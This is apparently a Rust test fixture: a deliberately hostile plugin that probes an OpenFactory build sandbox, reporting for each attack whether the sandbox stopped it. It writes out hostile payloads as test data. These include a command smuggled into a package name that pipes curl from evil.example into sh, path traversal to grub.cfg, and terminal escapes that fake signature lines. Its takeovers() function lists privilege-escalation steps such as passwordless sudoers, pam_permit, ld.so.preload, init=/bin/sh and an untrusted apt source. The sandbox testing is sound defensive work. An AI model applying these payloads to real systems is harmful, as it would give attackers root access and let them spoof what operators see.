//! A hostile plugin for the sandbox tests. Each `attack` option tries one
//! thing a plugin must not be able to do and reports, as a diagnostic, what
//! happened: `hostile.escaped` if the attack worked, `hostile.denied` if the
//! sandbox stopped it. Attacks that the host must kill (CPU, memory) never
//! return.
//!
//! One attack cannot be asked for by an option, because `describe` takes
//! none: a bundle that carries the asset `sleep-in-describe` sleeps forever
//! in `describe` (the sandbox tests repack the fixture with that file).

use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use openfactory_plugin_sdk::prelude::*;

#[derive(Debug, Default, Deserialize, JsonSchema, PartialEq)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    #[default]
    None,
    Loop,
    Memory,
    Panic,
    ReadHostFile,
    WriteAssets,
    Socket,
    Environment,
    BadSteps,
    ReadAssets,
    /// Count evaluations in a static: a reused instance would count past 1.
    Remember,
    /// Wait forever inside a host call (`wasi:clocks` `subscribe-duration`
    /// and `wasi:io/poll`), where no guest code runs for epoch interruption
    /// to stop, in `plan`.
    Sleep,
    /// Spin `spin` rounds in each of `validate`, `plan` and `checks`: each
    /// call within its own budget, the three together beyond the plan's.
    SpinEach,
    /// Emit, in `plan`, every step that takes over a system: each needs a
    /// privilege (the bundle declares them; nobody grants them).
    Privileged,
    /// Write `/etc/hosts`, which the recipe itself writes.
    Overwrite,
    /// Refuse to plan with nothing but a warning.
    WarnOnly,
    /// Open its own asset 20,000 times and keep every handle: without a
    /// bound on resources, the host runs out of file descriptors.
    Descriptors,
    /// Put terminal escapes in a step's description and a diagnostic.
    Escapes,
    /// Return 40 MiB of file contents: within the guest's memory, beyond
    /// what one call may hand the host.
    Alias,
    /// Read its own asset, then look at the asset's times: a time that is
    /// not the bundle's fixed one tells the plugin when it was installed or
    /// last read (a clock).
    AssetTimes,
}

/// The time every bundle file carries (1980-01-01T00:00:00Z).
const FIXED_TIME_SECS: u64 = 315_532_800;

/// Wait forever: `std::thread::sleep` on wasip2 is `subscribe-duration`
/// followed by a blocking `poll`.
fn sleep_forever() -> ! {
    loop {
        std::thread::sleep(Duration::from_secs(3600));
    }
}

#[derive(Debug, Default, Deserialize, JsonSchema)]
#[serde(default, deny_unknown_fields)]
pub struct Options {
    /// What to try.
    pub attack: Attack,
    /// Rounds of busy work per call, for `spin-each`.
    pub spin: u64,
}

/// Busy work the optimiser cannot remove.
fn spin(rounds: u64) {
    let mut x: u64 = 1;
    for i in 0..rounds {
        x = std::hint::black_box(x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(i));
    }
    std::hint::black_box(x);
}

/// An ESC that clears the line and returns the cursor: what a hostile
/// description uses to hide the line before it.
const HIDE: &str = "\u{1b}[2K\r";

pub struct Hostile;

fn outcome(escaped: bool, what: &str, detail: String) -> Vec<Diagnostic> {
    if escaped {
        vec![diag::error(
            "hostile.escaped",
            "options.attack",
            format!("{what}: {detail}"),
        )]
    } else {
        vec![diag::warning(
            "hostile.denied",
            "options.attack",
            format!("{what}: {detail}"),
        )]
    }
}

impl Feature for Hostile {
    type Options = Options;

    fn info() -> Info {
        if std::path::Path::new("/assets/sleep-in-describe").exists() {
            sleep_forever();
        }
        // A summary that would rewrite the operator's terminal line.
        let summary = if std::path::Path::new("/assets/escapes-in-describe").exists() {
            "Sandbox test fixture\x1b[2K\rhostile  verified  signed by: OpenFactory project"
        } else {
            "Sandbox test fixture"
        };
        Info::new("hostile", env!("CARGO_PKG_VERSION"), summary, "testing")
    }

    fn validate(ctx: &Context<Options>) -> Vec<Diagnostic> {
        match ctx.options.attack {
            Attack::None
            | Attack::BadSteps
            | Attack::Remember
            | Attack::Sleep
            | Attack::Privileged
            | Attack::Overwrite
            | Attack::WarnOnly
            | Attack::Alias => Vec::new(),
            Attack::SpinEach => {
                spin(ctx.options.spin);
                Vec::new()
            }
            Attack::Escapes => vec![diag::warning(
                "hostile.escapes",
                "options.attack",
                format!("{HIDE}signed by Debian Project (0123456789abcdef)"),
            )],
            Attack::Loop => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            Attack::Memory => {
                let big: Vec<u8> = vec![1; 1 << 30];
                outcome(true, "allocated 1 GiB", big.len().to_string())
            }
            Attack::Panic => panic!("the plugin panicked on purpose"),
            Attack::ReadHostFile => match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => outcome(true, "read /etc/passwd", format!("{} bytes", text.len())),
                Err(e) => outcome(false, "read /etc/passwd", e.to_string()),
            },
            Attack::Descriptors => {
                let mut open = Vec::new();
                let stopped = loop {
                    if open.len() == 20_000 {
                        break None;
                    }
                    match std::fs::File::open("/assets/secret.txt") {
                        Ok(file) => open.push(file),
                        Err(e) => break Some(e),
                    }
                };
                match stopped {
                    None => outcome(true, "kept 20000 files open", String::new()),
                    Some(e) => outcome(false, "keep files open", format!("stopped after {}: {e}", open.len())),
                }
            }
            Attack::ReadAssets => match std::fs::read_to_string("/assets/secret.txt") {
                Ok(text) => outcome(false, "read own asset", text.trim().to_owned()),
                Err(e) => outcome(true, "could not read own asset", e.to_string()),
            },
            Attack::AssetTimes => {
                let _ = std::fs::read("/assets/secret.txt");
                let seconds = |t: std::io::Result<std::time::SystemTime>| {
                    t.ok()
                        .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
                        .map(|d| d.as_secs())
                };
                match std::fs::metadata("/assets/secret.txt") {
                    Ok(meta) => {
                        let times = [seconds(meta.accessed()), seconds(meta.modified())];
                        outcome(
                            times.iter().any(|t| *t != Some(FIXED_TIME_SECS)),
                            "asset times (accessed, modified)",
                            format!("{times:?}"),
                        )
                    }
                    Err(e) => outcome(true, "could not stat own asset", e.to_string()),
                }
            }
            Attack::WriteAssets => match std::fs::write("/assets/planted", "x") {
                Ok(()) => outcome(true, "wrote into /assets", String::new()),
                Err(e) => outcome(false, "write into /assets", e.to_string()),
            },
            Attack::Socket => match std::net::TcpStream::connect("127.0.0.1:22") {
                Ok(_) => outcome(true, "opened a TCP connection", String::new()),
                Err(e) => outcome(false, "open a TCP connection", e.to_string()),
            },
            Attack::Environment => {
                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                outcome(
                    !vars.is_empty(),
                    "environment variables",
                    format!("{} visible", vars.len()),
                )
            }
        }
    }

    fn plan(ctx: &Context<Options>) -> Result<Vec<Step>, Vec<Diagnostic>> {
        if ctx.options.attack == Attack::BadSteps {
            return Ok(vec![
                step::install(&["vim; curl evil.example | sh"]),
                step::write_file("/etc/../boot/grub/grub.cfg", "pwned"),
                step::run("escape", &["sh -c 'id'"]),
            ]);
        }
        match ctx.options.attack {
            Attack::Sleep => sleep_forever(),
            Attack::SpinEach => spin(ctx.options.spin),
            Attack::Privileged => return Ok(takeovers()),
            Attack::Overwrite => {
                return Ok(vec![step::write_file("/etc/hosts", "203.0.113.7 deb.debian.org\n")]);
            }
            Attack::WarnOnly => {
                return Err(vec![diag::warning(
                    "hostile.not-today",
                    "",
                    "not planning today",
                )]);
            }
            Attack::Escapes => {
                return Ok(vec![step::run(
                    &format!("mark the build{HIDE}install vim"),
                    &["true"],
                )]);
            }
            Attack::Alias => {
                let big = "x".repeat(1 << 20);
                return Ok((0..40)
                    .map(|i| step::write_file(&format!("/etc/hostile/{i}"), &big))
                    .collect());
            }
            _ => {}
        }
        if ctx.options.attack == Attack::Remember {
            static PLANS: AtomicU32 = AtomicU32::new(0);
            let n = PLANS.fetch_add(1, Ordering::SeqCst) + 1;
            return Ok(vec![step::write_file(
                "/etc/hostile-plans",
                &format!("{n}\n"),
            )]);
        }
        Ok(vec![step::write_file(
            "/etc/hostile-was-here",
            "harmless\n",
        )])
    }

    fn checks(ctx: &Context<Options>) -> Vec<BootCheck> {
        if ctx.options.attack == Attack::SpinEach {
            spin(ctx.options.spin);
        }
        Vec::new()
    }
}

/// Steps that each take over the image in its own way.
fn takeovers() -> Vec<Step> {
    vec![
        step::write_file_with("/etc/sudoers.d/hostile", "ALL ALL=(ALL) NOPASSWD: ALL\n", 0o440, "root", "root"),
        step::write_file("/etc/apt/apt.conf.d/00hostile", "DPkg::Pre-Invoke { \"id\"; };\n"),
        step::write_file("/etc/apt/sources.list.d/hostile.list", "deb [trusted=yes] http://203.0.113.7/ bookworm main\n"),
        step::write_file("/etc/ld.so.preload", "/opt/hostile/hook.so\n"),
        step::write_file("/etc/pam.d/common-auth", "auth sufficient pam_permit.so\n"),
        step::write_file_with("/etc/profile.d/hostile.sh", "true\n", 0o666, "root", "root"),
        step::write_file_with("/usr/local/bin/sudo", "#!/bin/sh\n", 0o755, "root", "root"),
        step::kernel_arg("init=/bin/sh"),
        step::sysctl("kernel.core_pattern", "|/opt/hostile/core"),
        step::mask("apparmor.service"),
        step::user("hostile", &["shadow", "disk"]),
        step::run("look around", &["sh", "-c", "id"]),
        step::run("edit a file", &["sed", "-i", "-e", "1e id", "/opt/hostile/notes"]),
        step::run("tidy modes", &["chmod", "u+s", "/opt/hostile/tool"]),
        step::run("join a group", &["usermod", "-aG", "sudo", "hostile"]),
    ]
}

export_feature!(Hostile);
